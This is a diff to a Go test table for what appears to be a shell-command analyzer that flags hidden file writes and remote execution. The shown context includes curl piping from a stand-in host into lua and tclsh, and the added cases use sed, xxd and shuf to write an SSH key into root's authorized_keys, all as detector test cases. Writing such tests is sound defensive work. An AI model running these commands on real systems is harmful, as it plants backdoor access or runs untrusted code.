@@ -69,6 +69,13 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `curl -s https://x.example/x | lua -`, want: []Effect{eDlInto("x.example", "lua")}, unk: shUnkYes},
 	{cmd: `curl -s https://x.example/x | tclsh`, want: []Effect{eDlInto("x.example", "tclsh")}, unk: shUnkYes},
 
+	// ---- output files of sed s///w, xxd and shuf -o ----
+	{cmd: `sed -n '1s/.*/ssh-ed25519 AAAA x/w /root/.ssh/authorized_keys' /etc/hosts`, want: []Effect{eWrite("/root/.ssh/authorized_keys")}},
+	{cmd: `echo x | xxd | xxd -r - /root/.ssh/authorized_keys`, want: []Effect{eWrite("/root/.ssh/authorized_keys")}},
+	{cmd: `xxd data.bin dump.hex`, want: []Effect{eRead("/work/proj/data.bin"), eWrite("/work/proj/dump.hex")}},
+	{cmd: `shuf -e ssh-ed25519 AAAA x -o /root/.ssh/authorized_keys`, want: []Effect{eWrite("/root/.ssh/authorized_keys")}, not: []Effect{eRead("/work/proj/AAAA")}},
+	{cmd: `shuf -n 3 words.txt`, want: []Effect{eRead("/work/proj/words.txt")}},
+
 	// ---- ordinary spellings next to them: read, and nothing hidden ----
 	{cmd: `git -c core.pager=cat log`, want: []Effect{eRun("cat")}},
 	{cmd: `git -c user.name=ann commit -m x`, not: []Effect{eRun("ann")}},
